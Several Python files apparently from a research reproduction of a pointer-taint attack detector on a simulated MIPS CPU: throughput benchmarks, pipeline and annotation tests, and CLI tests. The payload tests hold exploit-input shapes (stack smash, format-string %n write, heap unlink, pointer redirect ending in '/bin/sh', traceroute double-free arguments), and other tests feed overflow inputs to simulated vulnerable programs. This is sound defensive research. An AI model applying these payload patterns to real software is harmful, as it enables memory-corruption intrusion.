    serial = runs[1]
    for workers, result in runs.items():
        # The whole contract: worker count never changes a record.
        assert result.digest() == serial.digest(), (
            f"digest diverged at workers={workers}"
        )
    start_method = next(
        (
            r.parallel["start_method"]
            for r in runs.values()
            if r.parallel is not None
        ),
        None,
    )
    record = {
        "workload": _WORKLOAD,
        "seed": _SEED,
        "trials": _TRIALS,
        "cpu_count": cpu,
        "start_method": start_method,
        "digest": serial.digest(),
        "trials_per_sec": {
            str(workers): round(result.trials_per_second, 2)
            for workers, result in runs.items()
        },
        "scaling_efficiency": {
            str(workers): round(
                result.trials_per_second
                / serial.trials_per_second
                / workers,
                3,
            )
            for workers, result in runs.items()
            if serial.trials_per_second
        },
    }
    save_json("parallel_campaign", record)
    return record


def test_bench_campaign_serial(benchmark):
    result = benchmark(_run, 1, 30)
    assert len(result.records) == 30


def test_bench_campaign_two_workers(benchmark):
    result = benchmark(_run, 2, 30)
    assert len(result.records) == 30
    assert result.parallel is not None


def test_parallel_record_artifact():
    record = collect_parallel_record()
    assert record["trials_per_sec"]["1"] > 0
    assert set(record["trials_per_sec"]) >= {"1", "2", "4"}
    save_report(
        "parallel_campaign",
        render_kv(
            [
                ("workload", record["workload"]),
                ("seed / trials", f"{record['seed']} / {record['trials']}"),
                ("host cores", record["cpu_count"]),
                ("pool start method", record["start_method"]),
                *(
                    (
                        f"trials/sec (-j {workers})",
                        record["trials_per_sec"][workers],
                    )
                    for workers in sorted(record["trials_per_sec"], key=int)
                ),
                ("digest (all widths)", record["digest"][:16] + "..."),
                ("note", "JSON record at BENCH_parallel_campaign.json"),
            ],
            title="parallel campaign throughput",
        ),
    )


def check_scaling(out=print):
    """Scaling regression guard (one-sided, never rewrites the baseline).

    The bar scales with the host: 4-worker throughput must reach
    ``0.625 * min(4, cpu_count) * serial`` -- i.e. 2.5x on a >= 4-core
    machine, and near-parity (pool overhead capped at ~37%) when the
    host cannot physically run trials concurrently.
    """
    cpu = os.cpu_count() or 1
    serial = _run(1)
    four = _run(4)
    assert four.digest() == serial.digest()
    required = 0.625 * min(4, cpu)
    achieved = (
        four.trials_per_second / serial.trials_per_second
        if serial.trials_per_second
        else 0.0
    )
    out(f"serial throughput:   {serial.trials_per_second:>10,.1f} trials/s")
    out(f"4-worker throughput: {four.trials_per_second:>10,.1f} trials/s")
    out(f"achieved ratio:      {achieved:>10.2f}x")
    out(f"required ratio:      {required:>10.2f}x  (host has {cpu} core(s))")
    if achieved < required:
        out(
            f"BENCH GUARD FAIL: 4-worker scaling {achieved:.2f}x is below "
            f"the {required:.2f}x bar for a {cpu}-core host"
        )
        return 1
    out("BENCH GUARD OK")
    return 0


def smoke(out=print):
    """CI fast path: tiny campaign, -j1 vs -j2 digest equality."""
    serial = _run(1, trials=20)
    parallel = _run(2, trials=20)
    if parallel.digest() != serial.digest():
        out("SMOKE FAIL: -j2 digest diverged from serial")
        return 1
    if parallel.counts != serial.counts:
        out("SMOKE FAIL: -j2 outcome counts diverged from serial")
        return 1
    if parallel.parallel is None or parallel.parallel["workers"] != 2:
        out("SMOKE FAIL: -j2 run did not report pool stats")
        return 1
    out(
        f"SMOKE OK: digest {serial.digest()[:16]}... identical at -j1/-j2 "
        f"({parallel.parallel['chunks']} chunks, "
        f"{parallel.parallel['start_method']} workers)"
    )
    return 0


def main(argv=None):
    parser = argparse.ArgumentParser(
        description="parallel campaign benchmark / scaling guard"
    )
    parser.add_argument(
        "--check", action="store_true",
        help="guard mode: require 4-worker scaling of "
             "0.625 * min(4, cpu_count) over serial",
    )
    parser.add_argument(
        "--smoke", action="store_true",
        help="fast CI path: -j1 vs -j2 digest equality on a tiny campaign",
    )
    args = parser.parse_args(argv)
    if args.check:
        return check_scaling()
    if args.smoke:
        return smoke()
    record = collect_parallel_record()
    print("parallel campaign throughput "
          f"({record['cpu_count']} core(s), {record['start_method']}):")
    for workers in sorted(record["trials_per_sec"], key=int):
        eff = record["scaling_efficiency"].get(workers)
        eff_s = f"  efficiency {eff:.0%}" if eff is not None else ""
        print(f"  -j {workers:<3} {record['trials_per_sec'][workers]:>10,.1f}"
              f" trials/s{eff_s}")
    print("written: BENCH_parallel_campaign.json")
    return 0


if __name__ == "__main__":
    sys.exit(main())
