"""EXTENSION -- section 5.3's proposed annotation mechanism.

The paper's suggested direction for reducing false negatives: annotate
data that must never become tainted and alert on tainted writes into it.
The bench shows the Table 4(B) authentication-flag overflow -- invisible
to the base architecture -- being caught once the flag is annotated,
while benign sessions (including trusted clean writes to the same flag)
run unaffected.
"""

from bench_util import save_report

from repro.apps.synthetic import VULN_B_SOURCE, vuln_b_scenario
from repro.defenses.alerts import SecurityException
from repro.defenses.policy import PointerTaintPolicy
from repro.cpu.simulator import Simulator
from repro.evalx.reporting import render_table
from repro.kernel.syscalls import Kernel
from repro.libc.build import build_program

_ANNOTATED_SOURCE = VULN_B_SOURCE.replace(
    "int vuln_b(void) {",
    "int annotate_range(int *p, int n);\nint vuln_b(void) {",
).replace(
    "do_auth(&auth);",
    "annotate_range(&auth, 4);\n    do_auth(&auth);",
)

_ANNOTATE_ASM = """
.text
annotate_range:
    lw $a0,0($sp)
    lw $a1,4($sp)
    li $v0,90
    syscall
    jr $ra
"""

_ATTACK_INPUT = b"wrongpassword\n" + b"A" * 9 + b"\n"
_BENIGN_INPUT = b"wrongpassword\nhi\n"


def _run_annotated(stdin):
    exe = build_program(_ANNOTATED_SOURCE, extra_asm=_ANNOTATE_ASM)
    kernel = Kernel(stdin=stdin)

    def annotate(kern, sim, addr, length, _a2):
        sim.watchpoints.add(addr, length, "annotated auth flag")
        return 0

    kernel._handlers = dict(kernel._handlers)
    kernel._handlers[90] = annotate
    sim = Simulator(exe, PointerTaintPolicy(), syscall_handler=kernel)
    kernel.attach(sim)
    try:
        sim.run(max_instructions=2_000_000)
        return kernel.process.stdout_text, None
    except SecurityException as exc:
        return kernel.process.stdout_text, exc.alert


def test_bench_annotation_catches_table4b(benchmark):
    stdout, alert = benchmark(_run_annotated, _ATTACK_INPUT)
    assert alert is not None
    assert alert.kind == "annotation"
    assert "access granted" not in stdout     # stopped before the grant


def test_bench_annotation_transparent_for_benign(benchmark):
    stdout, alert = benchmark(_run_annotated, _BENIGN_INPUT)
    assert alert is None
    assert "access denied" in stdout


def test_bench_annotation_report(benchmark):
    def run_all():
        base = vuln_b_scenario().run_attack(PointerTaintPolicy())
        attacked_stdout, attacked_alert = _run_annotated(_ATTACK_INPUT)
        benign_stdout, benign_alert = _run_annotated(_BENIGN_INPUT)
        return base, attacked_alert, benign_alert

    base, attacked_alert, benign_alert = benchmark.pedantic(
        run_all, rounds=1, iterations=1
    )
    assert not base.detected and attacked_alert is not None
    assert benign_alert is None
    save_report(
        "annotation_extension",
        render_table(
            ["configuration", "Table 4(B) attack", "benign session"],
            [
                ("base architecture", "MISSED (access granted)", "clean"),
                ("with annotated auth flag",
                 f"DETECTED ({attacked_alert.detail})", "clean"),
            ],
            title="Section 5.3 extension: annotated never-tainted data",
        ),
    )
