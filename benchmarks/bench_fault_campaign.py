"""Fault-campaign throughput: snapshot reuse vs per-trial rebuild.

Engineering data for the resilience subsystem: trials/second when every
trial is forked from one golden checkpoint (rollback) versus paying the
full machine rebuild (re-decode, re-bind, fresh kernel) per trial.  The
gap is the whole point of checkpoint/rollback -- a campaign of hundreds of
trials amortizes one decode.

Emits ``BENCH_fault_campaign.json`` at the repo root and a rendered
summary under ``benchmarks/results/``.  Also runnable standalone::

    PYTHONPATH=src python benchmarks/bench_fault_campaign.py
    PYTHONPATH=src python benchmarks/bench_fault_campaign.py --check

``--check`` is the campaign-throughput regression guard: it re-measures
the snapshot-reuse configuration and exits non-zero if trials/second
fell more than ``--tolerance`` (default 10%) below the recorded
``trials_per_sec_snapshot_reuse`` baseline.  One-sided (faster is always
fine) and read-only: the baseline JSON is never rewritten by the guard.
"""

import argparse
import json
import statistics
import sys
from time import perf_counter

from bench_util import REPO_ROOT, save_json, save_report

from repro.cpu.machine import ExecutionLimit
from repro.evalx.reporting import render_kv
from repro.fault import CampaignConfig, FaultCampaign, builtin_workload
from repro.mem.layout import PAGE_SIZE
from repro.mem.tainted_memory import TaintedMemory
from repro.taint.plane import TaintPlane

_SEED = 7
_TRIALS = 30
_WORKLOAD = "exp3"


def _run_campaign(reuse_snapshots=True, trials=_TRIALS):
    campaign = FaultCampaign(
        builtin_workload(_WORKLOAD),
        CampaignConfig(
            seed=_SEED, trials=trials, reuse_snapshots=reuse_snapshots
        ),
    )
    if reuse_snapshots:
        # Steady-state measurement: the first pass over the plan pays the
        # one-time costs (superblock fusion, allocator warmup) that a
        # long campaign amortizes away; the second pass is what a trial
        # actually costs.  Same plan, same records, same digest.
        campaign.run()
    return campaign.run()


def measure_restore_ms(repeats=200):
    """Median milliseconds per checkpoint rollback, measured on the real
    campaign machine: execute a trial-sized burst (dirtying pages as a
    trial would), then time only the rollback."""
    campaign = FaultCampaign(
        builtin_workload(_WORKLOAD), CampaignConfig(seed=_SEED, trials=1)
    )
    campaign.prepare()
    sim, kernel = campaign._sim, campaign._kernel
    checkpoint = campaign._checkpoint
    checkpoint.restore(sim, kernel)
    times = []
    for _ in range(repeats):
        sim.arm_watchdog(max_instructions=400)
        try:
            sim.run()
        except ExecutionLimit:
            pass
        sim.disarm_watchdog()
        start = perf_counter()
        checkpoint.restore(sim, kernel)
        times.append(perf_counter() - start)
    return statistics.median(times) * 1000.0


def measure_restore_sweep(repeats=200):
    """Restore cost vs mapped address space: microseconds per delta
    rollback of a fixed 8-dirty-page working set while the number of
    *mapped* (but untouched) pages grows.  Delta restore is O(dirty
    pages), so the column must stay flat -- this is the field the
    EXPERIMENTS.md restore-bound recipe plots."""
    sweep = {}
    for mapped in (64, 512, 2048, 8192):
        memory = TaintedMemory(TaintPlane())
        for i in range(mapped):
            memory.write(0x1000_0000 + i * PAGE_SIZE, 1, i & 0xFF)
        cow = memory.begin_cow()
        memory.plane.begin_cow(cow)
        payload = bytes(128)
        times = []
        for _ in range(repeats):
            for i in range(8):
                memory.write_bytes(0x1000_0000 + i * PAGE_SIZE, payload)
            start = perf_counter()
            memory.restore_cow(cow)
            memory.plane.restore_cow(cow)
            cow.clear_dirty()
            times.append(perf_counter() - start)
        sweep[str(mapped)] = round(statistics.median(times) * 1e6, 1)
    return sweep


def collect_campaign_record():
    reused = _run_campaign(reuse_snapshots=True)
    rebuilt = _run_campaign(reuse_snapshots=False)
    # Identical trial records: rollback leaks nothing into the next trial.
    assert reused.digest() == rebuilt.digest()
    record = {
        "workload": _WORKLOAD,
        "seed": _SEED,
        "trials": _TRIALS,
        "golden_instructions": reused.golden.instructions,
        "trials_per_sec_snapshot_reuse": round(reused.trials_per_second, 2),
        "trials_per_sec_rebuild": round(rebuilt.trials_per_second, 2),
        "snapshot_speedup": round(
            reused.trials_per_second / rebuilt.trials_per_second, 2
        )
        if rebuilt.trials_per_second
        else None,
        "counts": reused.counts,
        "digest": reused.digest(),
        # Rollback cost, isolated: median ms per checkpoint restore on
        # the campaign machine, and the delta-restore scaling sweep
        # (fixed dirty set, growing mapped space -- must stay flat).
        "restore_ms_per_trial": round(measure_restore_ms(), 4),
        "restore_us_by_mapped_pages": measure_restore_sweep(),
    }
    save_json("fault_campaign", record)
    return record


def test_bench_campaign_snapshot_reuse(benchmark):
    result = benchmark(_run_campaign, True)
    assert len(result.records) == _TRIALS
    assert sum(result.counts.values()) == _TRIALS


def test_bench_campaign_rebuild(benchmark):
    result = benchmark(_run_campaign, False, 10)
    assert len(result.records) == 10


def test_campaign_record_artifact():
    record = collect_campaign_record()
    assert record["trials_per_sec_snapshot_reuse"] > 0
    save_report(
        "fault_campaign",
        render_kv(
            [
                ("workload", record["workload"]),
                ("seed / trials", f"{record['seed']} / {record['trials']}"),
                ("golden instructions", record["golden_instructions"]),
                (
                    "trials/sec (snapshot reuse)",
                    record["trials_per_sec_snapshot_reuse"],
                ),
                ("trials/sec (rebuild)", record["trials_per_sec_rebuild"]),
                ("snapshot speedup", f"{record['snapshot_speedup']}x"),
                ("restore ms/trial", record["restore_ms_per_trial"]),
                (
                    "restore us by mapped pages",
                    record["restore_us_by_mapped_pages"],
                ),
                ("outcome counts", record["counts"]),
                ("note", "JSON record at BENCH_fault_campaign.json"),
            ],
            title="fault campaign throughput",
        ),
    )


def check_against_baseline(tolerance=0.10, repeats=3, out=print):
    """Snapshot-reuse regression guard against the recorded baseline.

    One-sided: only a *drop* below ``baseline * (1 - tolerance)`` fails.
    The baseline JSON is read, never rewritten -- regenerating it is a
    deliberate act, not a side effect of the guard.  Returns a process
    exit code.
    """
    path = REPO_ROOT / "BENCH_fault_campaign.json"
    baseline = json.loads(path.read_text())["trials_per_sec_snapshot_reuse"]
    current = max(
        _run_campaign(reuse_snapshots=True).trials_per_second
        for _ in range(repeats)
    )
    floor = baseline * (1.0 - tolerance)
    out(f"snapshot-reuse throughput: {current:>10,.1f} trials/s")
    out(f"recorded baseline:         {baseline:>10,.1f} trials/s")
    out(f"allowed floor (-{tolerance:.0%}):      {floor:>10,.1f} trials/s")
    if current < floor:
        out(
            f"BENCH GUARD FAIL: campaign throughput fell "
            f"{(1 - current / baseline):.1%} below the recorded baseline"
        )
        return 1
    out("BENCH GUARD OK")
    return 0


def main(argv=None):
    parser = argparse.ArgumentParser(
        description="fault-campaign throughput benchmark / regression guard"
    )
    parser.add_argument(
        "--check", action="store_true",
        help="guard mode: compare snapshot-reuse trials/s against the "
             "recorded BENCH_fault_campaign.json without rewriting it",
    )
    parser.add_argument(
        "--tolerance", type=float, default=0.10,
        help="allowed fractional drop below the baseline (default 0.10)",
    )
    args = parser.parse_args(argv)
    if args.check:
        return check_against_baseline(tolerance=args.tolerance)
    record = collect_campaign_record()
    print("fault campaign throughput:")
    print(f"  snapshot reuse  {record['trials_per_sec_snapshot_reuse']:>8} trials/s")
    print(f"  rebuild         {record['trials_per_sec_rebuild']:>8} trials/s")
    print(f"  speedup         {record['snapshot_speedup']:>8}x")
    print(f"  restore/trial   {record['restore_ms_per_trial']:>8} ms")
    print(f"  restore sweep   {record['restore_us_by_mapped_pages']} us")
    print("written: BENCH_fault_campaign.json")
    return 0


if __name__ == "__main__":
    sys.exit(main())
