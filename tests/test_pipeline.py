"""Five-stage pipeline model: retirement-time exceptions, timing, parity."""

import pytest

from repro.core.detector import SecurityException
from repro.core.policy import PointerTaintPolicy
from repro.cpu.pipeline import Pipeline, STAGES
from repro.cpu.simulator import Simulator
from repro.isa.assembler import assemble
from repro.kernel.syscalls import Kernel

from tests.helpers import run_asm


def make_machines(source, stdin=b""):
    """Build a functional simulator and a pipelined one for the same image."""
    exe = assemble(source)
    machines = []
    for _ in range(2):
        kernel = Kernel(stdin=stdin)
        sim = Simulator(exe, PointerTaintPolicy(), syscall_handler=kernel)
        kernel.attach(sim)
        machines.append(sim)
    return machines[0], Pipeline(machines[1])


STRAIGHT_LINE = (
    ".text\n_start:\n"
    "li $t0, 5\nli $t1, 6\nadd $t2, $t0, $t1\n"
    "move $a0, $t2\nli $v0, 1\nsyscall\n"
)

LOOPY = (
    ".text\n_start:\n"
    "li $t0, 20\nli $t1, 0\n"
    "loop: addu $t1, $t1, $t0\naddiu $t0, $t0, -1\nbnez $t0, loop\n"
    "move $a0, $t1\nli $v0, 1\nsyscall\n"
)

ATTACK = (
    ".text\n_start:\n"
    "li $v0, 3\nli $a0, 0\nla $a1, buf\nli $a2, 8\nsyscall\n"
    "la $t9, buf\nlw $t0, 0($t9)\n"
    "lw $s0, 0($t0)\n"        # tainted dereference
    "li $v0, 1\nli $a0, 0\nsyscall\n"
    ".data\nbuf: .space 8\n"
)


class TestPipelineBasics:
    def test_stage_names(self):
        assert STAGES == ("IF", "ID", "EX", "MEM", "WB")

    def test_straight_line_result_matches_functional(self):
        functional, pipeline = make_machines(STRAIGHT_LINE)
        assert functional.run() == pipeline.run() == 11

    def test_loop_result_matches_functional(self):
        functional, pipeline = make_machines(LOOPY)
        assert functional.run() == pipeline.run() == sum(range(1, 21))

    def test_retired_count_matches_executed(self):
        functional, pipeline = make_machines(LOOPY)
        functional.run()
        pipeline.run()
        assert pipeline.pstats.retired == functional.stats.instructions

    def test_cycles_exceed_instructions(self):
        """No branch prediction: control transfers stall fetch, CPI > 1."""
        _, pipeline = make_machines(LOOPY)
        pipeline.run()
        assert pipeline.pstats.cycles > pipeline.pstats.retired
        assert pipeline.pstats.cpi > 1.0
        assert pipeline.pstats.fetch_stalls > 0

    def test_straight_line_fills_the_pipe(self):
        """Without control hazards the pipe approaches CPI ~1 + drain."""
        source = (
            ".text\n_start:\n" + "addiu $t0, $t0, 1\n" * 40 +
            "move $a0, $t0\nli $v0, 1\nsyscall\n"
        )
        _, pipeline = make_machines(source)
        assert pipeline.run() == 40
        # 40 adds + 3 tail instructions + pipeline fill/drain + syscall stalls
        assert pipeline.pstats.cycles < 70

    def test_cycle_limit_guard(self):
        from repro.cpu.machine import ExecutionLimit

        _, pipeline = make_machines(".text\n_start: b _start\n")
        with pytest.raises(ExecutionLimit, match="cycles") as exc:
            pipeline.run(max_cycles=500)
        assert exc.value.reason == "cycles"
        assert exc.value.cycles == 500

    def test_instruction_budget_matches_functional_engine(self):
        """The shared MachineState watchdog bounds the pipeline engine with
        the same instruction semantics as the functional engine."""
        from repro.cpu.machine import ExecutionLimit

        _, pipeline = make_machines(".text\n_start: b _start\n")
        pipeline.sim.arm_watchdog(max_instructions=100)
        with pytest.raises(ExecutionLimit) as exc:
            pipeline.run()
        assert exc.value.reason == "instructions"
        assert pipeline.sim.stats.instructions == 100


class TestRetirementException:
    def test_detection_is_raised_at_retirement(self):
        _, pipeline = make_machines(ATTACK, stdin=b"abcdefgh")
        with pytest.raises(SecurityException) as info:
            pipeline.run()
        assert info.value.alert.pointer_value == 0x64636261
        # The malicious instruction marked at EX/MEM retired through WB.
        assert pipeline.pstats.drain_cycles >= len(STAGES) - 2

    def test_detect_stage_annotation(self):
        _, pipeline = make_machines(ATTACK, stdin=b"abcdefgh")
        try:
            pipeline.run()
        except SecurityException:
            pass
        # After the exception the pipe is empty: nothing younger retired.
        assert not pipeline._inflight

    def test_jump_detection_through_pipeline(self):
        source = (
            ".text\n_start:\n"
            "li $v0, 3\nli $a0, 0\nla $a1, buf\nli $a2, 8\nsyscall\n"
            "la $t9, buf\nlw $t0, 0($t9)\njr $t0\n"
            ".data\nbuf: .space 8\n"
        )
        _, pipeline = make_machines(source, stdin=b"aaaaaaaa")
        with pytest.raises(SecurityException) as info:
            pipeline.run()
        assert info.value.alert.kind == "jump"

    def test_no_younger_side_effects_after_mark(self):
        """A store younger than the malicious instruction must not land."""
        source = (
            ".text\n_start:\n"
            "li $v0, 3\nli $a0, 0\nla $a1, buf\nli $a2, 8\nsyscall\n"
            "la $t9, buf\nlw $t0, 0($t9)\n"
            "lw $s0, 0($t0)\n"       # malicious
            "li $t5, 99\nsw $t5, 8($t9)\n"  # younger store
            "li $v0, 1\nsyscall\n"
            ".data\nbuf: .space 16\n"
        )
        _, pipeline = make_machines(source, stdin=b"abcdefgh")
        with pytest.raises(SecurityException):
            pipeline.run()
        buf = pipeline.sim.executable.address_of("buf")
        assert pipeline.sim.memory.read(buf + 8, 4)[0] == 0

    def test_functional_and_pipeline_agree_on_alert(self):
        functional, pipeline = make_machines(ATTACK, stdin=b"abcdefgh")
        with pytest.raises(SecurityException) as func_info:
            functional.run()
        with pytest.raises(SecurityException) as pipe_info:
            pipeline.run()
        assert func_info.value.alert.pc == pipe_info.value.alert.pc
        assert (
            func_info.value.alert.pointer_value
            == pipe_info.value.alert.pointer_value
        )
