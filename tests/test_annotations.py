"""The section 5.3 extension: annotated never-tainted data ranges."""

import pytest

from repro.apps.synthetic import VULN_B_SOURCE, vuln_b_scenario
from repro.attacks.replay import run_executable
from repro.core.annotations import TaintWatchpoint, WatchpointSet
from repro.core.detector import SecurityException
from repro.core.policy import PointerTaintPolicy
from repro.cpu.simulator import Simulator
from repro.isa.assembler import assemble
from repro.kernel.syscalls import Kernel
from repro.libc.build import build_program


class TestWatchpointSet:
    def test_overlap_semantics(self):
        watchpoint = TaintWatchpoint(0x1000, 4, "flag")
        assert watchpoint.overlaps(0x1000, 1)
        assert watchpoint.overlaps(0x0FFD, 4)    # straddles the start
        assert watchpoint.overlaps(0x1003, 4)    # straddles the end
        assert not watchpoint.overlaps(0x1004, 4)
        assert not watchpoint.overlaps(0x0FFC, 4)

    def test_set_hit_returns_first_match(self):
        watchpoints = WatchpointSet()
        watchpoints.add(0x1000, 4, "a")
        watchpoints.add(0x2000, 8, "b")
        assert watchpoints.hit(0x2004, 1).label == "b"
        assert watchpoints.hit(0x3000, 4) is None
        assert len(watchpoints) == 2

    def test_zero_length_rejected(self):
        with pytest.raises(ValueError):
            WatchpointSet().add(0x1000, 0)

    def test_str_includes_label_and_range(self):
        text = str(TaintWatchpoint(0x10, 4, "auth"))
        assert "auth" in text and "0x10" in text


class TestMachineIntegration:
    def _attack_sim(self):
        """Read tainted input and store a tainted byte at `target`."""
        source = (
            ".text\n_start:\n"
            "li $v0, 3\nli $a0, 0\nla $a1, buf\nli $a2, 4\nsyscall\n"
            "la $t9, buf\nlbu $t0, 0($t9)\n"
            "la $t1, target\nsb $t0, 0($t1)\n"
            "li $v0, 1\nli $a0, 0\nsyscall\n"
            ".data\nbuf: .space 4\ntarget: .word 0\n"
        )
        exe = assemble(source)
        kernel = Kernel(stdin=b"WXYZ")
        sim = Simulator(exe, PointerTaintPolicy(), syscall_handler=kernel)
        kernel.attach(sim)
        return sim, exe

    def test_tainted_write_into_annotation_alerts(self):
        sim, exe = self._attack_sim()
        sim.watchpoints.add(exe.address_of("target"), 4, "auth flag")
        with pytest.raises(SecurityException) as info:
            sim.run()
        assert info.value.alert.kind == "annotation"
        assert "auth flag" in info.value.alert.detail

    def test_without_annotation_store_is_legal(self):
        sim, _ = self._attack_sim()
        assert sim.run() == 0

    def test_clean_write_into_annotation_is_legal(self):
        source = (
            ".text\n_start:\n"
            "li $t0, 7\nla $t1, target\nsw $t0, 0($t1)\n"
            "li $v0, 1\nli $a0, 0\nsyscall\n"
            ".data\ntarget: .word 0\n"
        )
        exe = assemble(source)
        kernel = Kernel()
        sim = Simulator(exe, PointerTaintPolicy(), syscall_handler=kernel)
        kernel.attach(sim)
        sim.watchpoints.add(exe.address_of("target"), 4, "flag")
        assert sim.run() == 0

    def test_annotation_recorded_in_detector_log(self):
        sim, exe = self._attack_sim()
        sim.watchpoints.add(exe.address_of("target"), 4)
        with pytest.raises(SecurityException):
            sim.run()
        assert sim.detector.alerts[-1].kind == "annotation"
        assert sim.stats.alerts == 1


class TestTable4BBecomesDetectable:
    """The paper's motivation for the extension: catching Table 4(B)."""

    ANNOTATED_SOURCE = VULN_B_SOURCE.replace(
        "int vuln_b(void) {",
        "int annotate_range(int *p, int n);\n"
        "int vuln_b(void) {",
    ).replace(
        "do_auth(&auth);",
        "annotate_range(&auth, 4);\n    do_auth(&auth);",
    )

    ANNOTATE_ASM = """
.text
annotate_range:
    lw $a0,0($sp)
    lw $a1,4($sp)
    li $v0,90
    syscall
    jr $ra
"""

    def _run(self, stdin):
        exe = build_program(self.ANNOTATED_SOURCE, extra_asm=self.ANNOTATE_ASM)
        kernel = Kernel(stdin=stdin)
        original = kernel._handlers

        def annotate(kern, sim, addr, length, _a2):
            sim.watchpoints.add(addr, length, "annotated auth flag")
            return 0

        kernel._handlers = dict(original)
        kernel._handlers[90] = annotate
        sim = Simulator(exe, PointerTaintPolicy(), syscall_handler=kernel)
        kernel.attach(sim)
        try:
            status = sim.run(max_instructions=2_000_000)
            return kernel.process.stdout_text, status, None
        except SecurityException as exc:
            return kernel.process.stdout_text, None, exc.alert

    def test_base_architecture_misses_the_attack(self):
        result = vuln_b_scenario().run_attack(PointerTaintPolicy())
        assert not result.detected
        assert "access granted" in result.stdout

    def test_annotated_flag_catches_the_overflow(self):
        _, status, alert = self._run(b"wrongpassword\n" + b"A" * 9 + b"\n")
        assert alert is not None
        assert alert.kind == "annotation"
        assert "annotated auth flag" in alert.detail

    def test_annotated_flag_allows_benign_sessions(self):
        stdout, status, alert = self._run(b"wrongpassword\nhi\n")
        assert alert is None
        assert status == 0
        assert "access denied" in stdout

    def test_annotated_flag_allows_trusted_writes(self):
        """do_auth's own `*flag = 1` is an untainted constant: legal."""
        stdout, status, alert = self._run(b"secret\nhi\n")
        assert alert is None
        assert "access granted" in stdout
