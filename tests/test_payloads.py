"""Attack payload constructor tests."""

import pytest

from repro.attacks.payloads import (
    double_free_args,
    format_leak_payload,
    format_write_payload,
    heap_unlink_payload,
    le32,
    stack_pointer_redirect_payload,
    stack_smash_payload,
)


class TestEncodings:
    def test_le32(self):
        assert le32(0x1002BC20) == b"\x20\xbc\x02\x10"
        assert le32(-1) == b"\xff\xff\xff\xff"

    def test_stack_smash_default_is_papers_24_a(self):
        payload = stack_smash_payload()
        assert payload == b"a" * 24

    def test_stack_smash_custom(self):
        assert stack_smash_payload(5, b"X") == b"XXXXX"


class TestFormatWrite:
    def test_zero_skid_plants_address_first(self):
        payload = format_write_payload(0x64636261)
        assert payload == b"abcd%n"

    def test_wuftpd_shape_address_then_skid(self):
        payload = format_write_payload(0x1002BC20, skid_words=6, gap_words=6)
        assert payload == b"\x20\xbc\x02\x10" + b"%x" * 6 + b"%n"

    def test_skid_beyond_gap_places_address_later(self):
        payload = format_write_payload(0xAABBCCDD, skid_words=3, gap_words=0)
        # ap lands at byte 12: 3 "%x" (6 bytes) + 6 filler, then the address.
        assert payload.index(le32(0xAABBCCDD)) == 12
        assert payload.count(b"%x") == 3
        assert payload.endswith(b"%n")

    def test_negative_offset_rejected(self):
        with pytest.raises(ValueError):
            format_write_payload(0x1000, skid_words=1, gap_words=5)

    def test_leak_payload(self):
        assert format_leak_payload(3) == b"%x.%x.%x."


class TestHeapAndPointerPayloads:
    def test_heap_unlink_layout(self):
        payload = heap_unlink_payload(12, fd=0x11111111, bk=0x22222222)
        assert payload[:12] == b"a" * 12
        assert payload[16:20] == le32(0x11111111)
        assert payload[20:24] == le32(0x22222222)
        # The overwritten size keeps the free bit (odd value).
        size = int.from_bytes(payload[12:16], "little")
        assert size & 1

    def test_pointer_redirect_layout(self):
        payload = stack_pointer_redirect_payload(
            buffer_length=8, pointer_offset=12, new_pointer=0x7FFF3E94,
            tail=b"/bin/sh",
        )
        assert payload[:12] == b"A" * 12
        assert payload[12:16] == le32(0x7FFF3E94)
        assert payload.endswith(b"/bin/sh")

    def test_pointer_inside_buffer_rejected(self):
        with pytest.raises(ValueError):
            stack_pointer_redirect_payload(16, 8, 0x1000, b"")

    def test_double_free_args_shape(self):
        assert double_free_args() == ["traceroute", "-g", "123", "-g", "5.6.7.8"]
        assert double_free_args("9", "8")[2] == "9"
