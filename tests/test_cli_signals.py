"""CLI robustness: signal handling and structured failure envelopes.

Long-running commands (``campaign``, ``report``, ``matrix``) must honor
SIGINT/SIGTERM -- cancel the worker pool, report partial progress on
stderr, exit 130 -- and any command failure under ``--json PATH`` must
leave a schema-valid ``{"kind": "error"}`` envelope at PATH instead of
an unstructured traceback.
"""

import json
import os
import signal
import subprocess
import sys
import time

import pytest

from repro.api import validate_result_json
from repro.cli import main as cli_main

REPO_ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))


def _spawn(*argv):
    env = dict(os.environ, PYTHONPATH="src")
    return subprocess.Popen(
        [sys.executable, "-m", "repro", *argv],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE,
        env=env, text=True, cwd=REPO_ROOT,
    )


def _interrupt_after(proc, signum, delay_s):
    time.sleep(delay_s)
    if proc.poll() is not None:  # pragma: no cover - timing guard
        pytest.skip("command finished before the signal landed")
    proc.send_signal(signum)
    out, err = proc.communicate(timeout=60)
    return proc.returncode, out, err


class TestSignalHandling:
    def test_sigint_mid_campaign_exits_130_with_progress_message(self):
        proc = _spawn(
            "campaign", "--builtin", "exp3", "--trials", "5000", "-j", "2"
        )
        rc, _out, err = _interrupt_after(proc, signal.SIGINT, 3.0)
        assert rc == 130
        assert "repro campaign: interrupted" in err
        assert "partial progress" in err

    def test_sigterm_mid_report_exits_130(self):
        proc = _spawn("report", "all")
        rc, _out, err = _interrupt_after(proc, signal.SIGTERM, 2.0)
        assert rc == 130
        assert "repro report: interrupted" in err

    def test_sigterm_mid_matrix_exits_130(self):
        proc = _spawn("matrix")
        rc, _out, err = _interrupt_after(proc, signal.SIGTERM, 1.5)
        assert rc == 130
        assert "repro matrix: interrupted" in err


class TestJsonErrorEnvelope:
    def test_failure_writes_schema_valid_envelope(self, tmp_path, capsys):
        json_path = tmp_path / "result.json"
        rc = cli_main(
            ["run", str(tmp_path / "missing.c"), "--json", str(json_path)]
        )
        assert rc == 1
        err = capsys.readouterr().err
        assert "FileNotFoundError" in err
        assert "Traceback" not in err
        payload = validate_result_json(json.loads(json_path.read_text()))
        assert payload["kind"] == "error"
        assert payload["reason"] == "cli"
        assert payload["error"]["type"] == "FileNotFoundError"
        assert payload["error"]["message"]

    def test_compile_error_is_structured_too(self, tmp_path):
        bad = tmp_path / "bad.c"
        bad.write_text("int main( {")
        json_path = tmp_path / "result.json"
        rc = cli_main(["run", str(bad), "--json", str(json_path)])
        assert rc == 1
        payload = json.loads(json_path.read_text())
        assert payload["kind"] == "error"
        assert payload["error"]["type"]

    def test_usage_errors_still_raise_system_exit(self):
        # Argument-shape problems are usage errors, not result payloads.
        with pytest.raises(SystemExit):
            cli_main(["campaign"])  # needs FILE or --builtin

    def test_success_paths_unaffected(self, tmp_path):
        src = tmp_path / "ok.c"
        src.write_text('int main(void) { printf("ok\\n"); return 0; }')
        json_path = tmp_path / "result.json"
        import io

